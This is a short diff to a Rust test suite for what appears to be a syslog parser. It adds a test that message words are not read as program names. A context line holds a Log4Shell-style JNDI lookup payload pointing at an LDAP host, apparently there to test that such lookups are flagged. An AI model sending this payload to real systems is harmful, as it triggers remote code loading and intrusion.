@@ -55,6 +55,17 @@ fn what_is_told_is_counted_and_not_kept() {
 }
 
 #[test]
+fn a_word_of_the_text_is_no_program() {
+    let rows = play(&[
+        b"<13>Nov 29 10:00:00 pacs Patient-ID/48113 admitted",
+        b"<13>Nov 29 10:00:00 pacs nginx restarted by Mustermann",
+        b"<13>Nov 29 10:00:00 pacs Oberhuber/80312: exam stored",
+        b"<14>1 2026-01-01T00:00:00Z host Oberhuber/80312 - - - text",
+    ]);
+    told(&rows[0], &[("messages", "4"), ("apps", "[]")]);
+}
+
+#[test]
 fn a_look_up_in_what_is_logged_is_marked() {
     let rows = play(&[
         b"<38>Nov 29 16:43:56 ct01 nginx: \"GET / HTTP/1.1\" \"${jndi:ldap://10.0.0.9/erika}\"",
